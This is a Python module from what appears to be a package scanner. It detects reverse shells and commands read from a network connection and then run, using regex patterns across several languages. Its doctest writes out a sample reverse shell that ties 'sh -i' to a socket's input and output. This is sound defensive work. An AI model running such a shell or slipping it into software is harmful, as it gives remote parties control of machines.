"""Does a program let somebody elsewhere type commands?

A connection is no finding, and neither is a shell. Two things are: a shell of which what it reads and what it writes is a
connection, and a line that is read from a connection and run. Both are told by the text of the program, in whatever language.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence

from metier.govern.scan.flow import Step
from metier.govern.scan.hosts import Place
from metier.govern.scan.purpose import Purpose
from metier.govern.scan.seen import Seen, place_of_step
from metier.verdict import Severity

_WORDS = ("ocket", "onnect(", "_connection(", "fsockopen", "mqtt", ".accept(", "Dial(", "TcpStream")
"""What opens a connection holds one of them."""
_TYING = (".fileno()", "stdin", "stdio", "in:", "=>", "pipeTo", "from_raw_fd")
_HEARING = (".recv", "readline(", "readuntil(", "receive(", ".gets(", ".makefile(", ".payload", "<$", "< $", "data(")
"""What is read from a connection, and what is bound to one, holds one of them."""
_RUNS = r"(?:create_subprocess_(?:shell|exec)|getoutput|getstatusoutput|check_output|(?:subprocess|sp)\.\w+|os\.(?:system|popen)|io\.popen|\bpopen|\bsystem|\bexec(?:Sync)?|\bspawn(?:Sync)?|\beval)\(\s*"
_SHELL = r"[\"'](?:/bin/)?(?:ba|z|da)?sh[\"']"
_TIED = re.compile(
    r"\bstdin\s*=\s*(?P<fd>\w+)\.fileno\(\)|\bstdin\s*=\s*(?P<py>(?!PIPE|DEVNULL|None|sys\b|subprocess\b)\w+)\s*,\s*stdout\s*=\s*(?P=py)\b"
    r"|\bstdio\s*:\s*\[\s*(?P<js>[A-Za-z_$]\w*)\s*,\s*(?P=js)\b"
    r"|\bin:\s*(?P<rb>[A-Za-z_]\w*)\s*,\s*out:\s*(?P=rb)\b"
    r"|\b0\s*=>\s*(?P<php>\$\w+)\s*,\s*1\s*=>\s*(?P=php)\b"
    r"|\.readable\.pipeTo\(\s*\w+\.stdin\b|\.stdin\.write\(\s*\w+\.recv\("
    rf"|Command::new\(\s*{_SHELL}[\s\S]{{0,200}}from_raw_fd\("
)
"""What a shell reads and writes is a connection."""
_HEARD = re.compile(
    rf"\b(?P<read>\w+)\s*=\s*(?:await\s+)?(?:(?P<of>\w+)\.(?:readline|readuntil|gets)|[\w.]+[.:](?:recv(?:from)?|receive))\([^\n]{{0,80}}[\s\S]{{0,240}}?{_RUNS}(?P=read)\b"
    rf"|\.makefile\([\s\S]{{0,240}}?\bfor\s+(?P<line>\w+)\s+in\s[\s\S]{{0,160}}?{_RUNS}(?P=line)\b"
    rf"|{_RUNS}\w+\.(?:recv(?:from)?\(|payload\b)"
    r"|while\s*\(\s*(?:my\s+\$\w+\s*=\s*)?<\s*\$\w+\s*>\s*\)[\s\S]{0,160}?(?:\bqx\b|`\s*\$|\bsystem\s*\(?\s*\$|\bexec\s*\(?\s*\$)"
    r"|\bdata\(\s*\w+\s*,\s*(?P<data>\w+)\s*\)[\s\S]{0,200}?\b(?:spawn|exec)\w*\([^\n]{0,60}\b(?P=data)\b"
)
"""What is read from a connection is run."""


def controlled(steps: Sequence[Step], purpose: Purpose, text: str) -> Iterator[Seen]:
    """A shell at the other end of a connection.

    Args:
        steps: Every step of a program.
        purpose: What the package says that it is for.
        text: The steps, a line each.

    >>> from metier.govern.scan.statement import Statement
    >>> lines = ["s = socket.create_connection(AT)", "subprocess.call(['sh', '-i'], stdin=s.fileno(), stdout=s.fileno())"]
    >>> steps = [Step(Statement("a.py", n, line), frozenset()) for n, line in enumerate(lines)]
    >>> [(seen.rule, seen.severity.value) for seen in controlled(steps, Purpose(), "\\n".join(lines))]
    [('reverse-shell', 'block')]
    """
    if purpose.is_security or not any(word in text for word in _WORDS):
        return
    tied = _TIED.search(text) if any(word in text for word in _TYING) else None
    found = tied or (_HEARD.search(text) if any(word in text for word in _HEARING) else None)
    if found is None or _is_at_home(steps, purpose):
        return
    said = found.groupdict()
    if (name := said.get("fd") or said.get("of")) and not _is_connection(name, text):
        return
    step = steps[min(text.count("\n", 0, found.start()), len(steps) - 1)]
    if tied is not None:
        yield Seen("reverse-shell", Severity.BLOCK, step, "over a connection")
    else:
        yield Seen("remote-command", Severity.BLOCK, step, "line by line from a connection")


def _is_connection(name: str, text: str) -> bool:
    """Whether a name is given to something that is connected."""
    made = rf"\b{re.escape(name)}\b[\w, ]{{0,40}}=[^\n=][^\n]{{0,120}}(?:ocket|onnect|makefile|accept)\w*\("
    return re.search(made, text) is not None


def _is_at_home(steps: Sequence[Step], purpose: Purpose) -> bool:
    """Whether all that a program connects to is the machine that it runs on."""
    places = [place_of_step(step, purpose) for step in steps if step.urls]
    return bool(places) and all(place == Place.LOCAL for place in places)
